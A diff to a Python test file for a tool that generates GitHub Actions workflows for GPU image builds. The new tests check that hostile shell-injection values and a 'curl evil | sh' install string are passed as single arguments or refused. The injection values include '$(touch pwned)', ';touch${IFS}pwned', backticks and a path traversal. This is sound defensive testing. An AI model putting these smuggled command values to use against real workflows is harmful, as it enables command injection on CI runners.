@@ -29,18 +29,30 @@ def test_check_names_the_difference_when_the_schedule_changes(sheet_matrix):
 
 def test_the_workflow_has_what_a_gpu_runner_needs(sheet_matrix):
     wf = yaml.safe_load(ci.render_workflow(sheet_matrix))
-    assert [s["cron"] for s in wf["on"]["schedule"]] == ["0 17 * * 0", "0 17 * * 2", "0 17 * * 4", "0 17 28,29,30,31 * *"]
+    assert [s["cron"] for s in wf["on"]["schedule"]] == ["0 17 * * *"]  # 02:00 in Tokyo, one time of day
     assert set(wf["on"]["workflow_dispatch"]["inputs"]) == {"phase", "cuda", "python", "target"}
     assert wf["permissions"] == {} and wf["concurrency"]["cancel-in-progress"] is False
     job = wf["jobs"]["build-test"]
     assert job["runs-on"] == ["self-hosted", "linux", "x64", "gpu"] and job["permissions"] == {"contents": "read"}
     runs = [s.get("run", "") for s in job["steps"]]
-    for want in ("invoke doctor $BUILD_ARGS", "invoke build $BUILD_ARGS", '-- --require-gpu $TEST_ARGS', "invoke report $BUILD_ARGS"):
+    for want in ('imagematrix doctor "${args[@]}"', 'imagematrix build "${args[@]}"',
+                 'imagematrix test --suite smoke --require-gpu "${args[@]}"', 'imagematrix report "${args[@]}"'):
         assert any(want in r for r in runs), want
     assert any("GITHUB_STEP_SUMMARY" in r for r in runs)
     upload = job["steps"][-1]
     assert upload["uses"].startswith("actions/upload-artifact@") and "history.jsonl" in upload["with"]["path"]
     assert all("${{" not in r for r in runs), "the selection reaches run: only through env"
+
+
+def test_the_workflow_installs_the_tool_and_assumes_no_checkout_of_imagematrix(sheet_matrix):
+    """Another team's repository has no src/ and no noxfile: every step calls the installed command."""
+    team = replace(sheet_matrix, ci=replace(sheet_matrix.ci, install="imagematrix==0.1.0"))
+    text = ci.render_workflow(team)
+    wf = yaml.safe_load(text)
+    assert "PYTHONPATH=src" not in text and "pip install -e" not in text and "invoke " not in text.split("\n\n", 1)[1]
+    assert "nox " not in text
+    assert wf["jobs"]["build-test"]["env"]["IMAGEMATRIX_INSTALL"] == "imagematrix==0.1.0"
+    assert wf["jobs"]["plan"]["steps"][1]["env"]["IMAGEMATRIX_INSTALL"] == "imagematrix==0.1.0"
 
 
 def test_actionlint_and_zizmor_find_nothing_in_the_workflow_and_something_in_a_bad_one(sheet_matrix, tmp_path):
@@ -67,19 +79,19 @@ def test_the_gate_plans_one_job_per_family_from_the_dispatch_inputs(sheet_matrix
     done = _gate({"IMAGEMATRIX_SCHEDULE": schedule, "FIRED": "", "PHASE": "5", "CUDA": "all", "PYTHON": "all", "TARGET": "all"})
     assert done.returncode == 0, done.stderr
     jobs = json.loads(done.stdout.removeprefix("jobs="))
-    assert [(j["build"], j["session"], j["test"]) for j in jobs] == [
-        ("--phase 5 --cuda 13.1.1 --python 3.14", "gpu_smoke-3.14", "--phase 5 --cuda 13.1.1"),
-        ("--phase 5 --cuda 12.8.1 --python 3.14", "gpu_smoke-3.14", "--phase 5 --cuda 12.8.1"),
-    ]
+    assert [(j["cuda"], j["python"], j["phases"], j["target"]) for j in jobs] == [
+        ("13.1.1", "3.14", "5", ""), ("12.8.1", "3.14", "5", "")]
     done = _gate({"IMAGEMATRIX_SCHEDULE": schedule, "FIRED": "", "PHASE": "9"})
     assert done.returncode == 2 and "phase '9' is not in the matrix" in done.stderr
+    done = _gate({"IMAGEMATRIX_SCHEDULE": "{not json", "FIRED": ""})
+    assert done.returncode == 2 and "regenerate the workflow" in done.stderr and "Traceback" not in done.stderr
 
 
 def test_the_first_of_the_month_runs_every_phase_once_per_family(sheet_matrix):
     fam = ci.families(sheet_matrix)
     jobs = cron.plan_jobs(fam, [1, 2, 3, 4, 5])
     assert len(jobs) == len(fam["*"]) == 3  # cells of several phases are built by one job, once
-    assert jobs[0]["build"] == "--phase 1 --phase 2 --cuda 12.8.1 --python 3.13"
+    assert (jobs[0]["cuda"], jobs[0]["python"], jobs[0]["phases"]) == ("12.8.1", "3.13", "1 2")
 
 
 @pytest.mark.parametrize("late_minutes", [0, 50])
@@ -88,6 +100,104 @@ def test_scheduled_plan_for_a_monday_in_tokyo(sheet_matrix, late_minutes):
 
     g = ci.gate_config(sheet_matrix)
     now = datetime(2026, 11, 29, 17, 0, tzinfo=timezone.utc) + timedelta(minutes=late_minutes)  # Mon 02:00 JST
-    phases = cron.due(g["runs"], g["timezone"], "0 17 * * 0", now)
+    phases = cron.due(g["runs"], g["timezone"], "0 17 * * *", now)
     assert phases == [1]
-    assert [j["build"] for j in cron.plan_jobs(g["families"], phases)] == ["--phase 1 --cuda 12.8.1 --python 3.13"]
+    assert [j["phases"] for j in cron.plan_jobs(g["families"], phases)] == ["1"]
+
+
+# --- a hostile job cannot make the workflow run anything but imagematrix ------------------------------
+
+STUB = f"""#!{sys.executable}
+import json, os, shutil, sys
+name = os.path.basename(sys.argv[0])
+with open(os.environ["CALLS"], "a") as f:
+    f.write(json.dumps([name, *sys.argv[1:]]) + "\\n")
+if sys.argv[1:3] == ["-m", "venv"]:
+    os.makedirs(sys.argv[3] + "/bin", exist_ok=True)
+    shutil.copy(sys.argv[0], sys.argv[3] + "/bin/pip")
+if sys.argv[1:3] == ["-m", "imagematrix.cron"]:
+    print("jobs=[]")
+"""
+HOSTILE = {
+    "CUDA": "12.8.1 * ;touch${IFS}pwned",
+    "PYTHON": "$(touch pwned)",
+    "TARGET": '"; touch pwned; "',
+    "IMAGEMATRIX_MATRIX": "m;touch${IFS}pwned;.yaml",
+    "IMAGEMATRIX_INSTALL": "x; touch pwned",
+    "KEEP_IMAGES": "2`touch pwned`",
+    "FIRED": "0 17 * * *\ntouch pwned",
+    "PHASE": "1;touch pwned",
+}
+
+
+def _run_step(script: str, env: dict[str, str], cwd, stubs) -> int:
+    env = {**env, "PATH": str(stubs), "CALLS": str(cwd / "calls"), "GITHUB_OUTPUT": str(cwd / "out"),
+           "GITHUB_PATH": str(cwd / "path"), "GITHUB_STEP_SUMMARY": str(cwd / "summary"), "RUNNER_TEMP": str(cwd)}
+    return subprocess.run(["/bin/bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script], cwd=cwd, env=env,
+                          capture_output=True, text=True, check=False).returncode
+
+
+@pytest.mark.parametrize("phases", ["1 2", "1 `touch pwned`", "*", "1;touch pwned"])
+def test_hostile_values_reach_the_tool_as_single_arguments_and_run_nothing_else(sheet_matrix, tmp_path, phases):
+    """Every run: script of the workflow under bash -eo pipefail with stub commands, every value set by
+    the environment hostile: nothing but the stubs runs, and each value arrives whole."""
+    stubs = tmp_path / "stubs"
+    stubs.mkdir()
+    for name in ("imagematrix", "python3", "cat"):
+        (stubs / name).write_text(STUB)
+        (stubs / name).chmod(0o755)
+    (tmp_path / "*").write_text("a file a glob would find")
+    wf = yaml.safe_load(ci.render_workflow(sheet_matrix))
+    codes = []
+    for job in wf["jobs"].values():
+        for step in job["steps"]:
+            if "run" not in step:
+                continue
+            env = {**{k: str(v) for k, v in {**job.get("env", {}), **step.get("env", {})}.items()},
+                   **HOSTILE, "PHASES": phases}
+            codes.append(_run_step(step["run"], env, tmp_path, stubs))
+    assert not (tmp_path / "pwned").exists()
+    calls = [json.loads(c) for c in (tmp_path / "calls").read_text().splitlines()]
+    assert {c[0] for c in calls} <= {"imagematrix", "python3", "cat", "pip"}
+    tool = [c[1:] for c in calls if c[0] == "imagematrix" and c[1] != "prune"]
+    for argv in tool:  # each hostile value is one argument, exactly as it was set
+        for flag, key in (("--cuda", "CUDA"), ("--python", "PYTHON"), ("--matrix", "IMAGEMATRIX_MATRIX")):
+            assert argv[argv.index(flag) + 1] == HOSTILE[key]
+        assert argv[argv.index("--target") + 1] == HOSTILE["TARGET"]
+    if phases == "1 2":
+        assert len(tool) == 4 and all(a.count("--phase") == 2 for a in tool)
+    else:  # a phase that is not a number stops the step before the tool runs
+        assert tool == [] and 2 in codes
+    prune = [c[1:] for c in calls if c[0] == "imagematrix" and c[1] == "prune"]
+    assert prune == [["prune", "--keep", HOSTILE["KEEP_IMAGES"], "--cache-hours", "336"]]
+
+
+@pytest.mark.parametrize(("key", "value", "needle"), [
+    ("state_dir", "/var/lib/x\n~/.docker/config.json", "absolute path of plain names"),
+    ("runs_on", ["gpu", "${{ github.token }}"], "not a runner label"),
+    ("runs_on", ["gpu\nx: 1"], "not a runner label"),
+    ("workflow", "../../../x.yml", "not a workflow file in .github/workflows/"),
+    ("gate_runs_on", "ubuntu-latest\n", "not a runner label"),
+    ("install", "imagematrix; curl evil | sh", "not a pip requirement"),
+])
+def test_ci_settings_are_refused_at_load(tmp_path, repo_root, key, value, needle):
+    from imagematrix.errors import MatrixError
+    from imagematrix.matrix import load_matrix
+
+    data = yaml.safe_load((repo_root / "examples" / "matrix.yaml").read_text())
+    data["build"]["fragments_dir"] = str(repo_root / "dockerfiles")
+    data.setdefault("ci", {})[key] = value
+    path = tmp_path / "matrix.yaml"
+    path.write_text(yaml.safe_dump(data))
+    with pytest.raises(MatrixError, match="ci") as err:
+        load_matrix(path)
+    assert needle in str(err.value)
+
+
+def test_a_matrix_file_name_that_is_not_plain_is_refused(example_matrix, tmp_path):
+    odd = replace(example_matrix, path=tmp_path / "m;touch${IFS}pwned;.yaml")
+    with pytest.raises(ci.CIError, match="rename it"):
+        ci.render_workflow(odd)
+    odd = replace(example_matrix, path=tmp_path / "m\nx: 1.yaml")
+    with pytest.raises(ci.CIError, match="rename it"):
+        ci.render_workflow(odd)
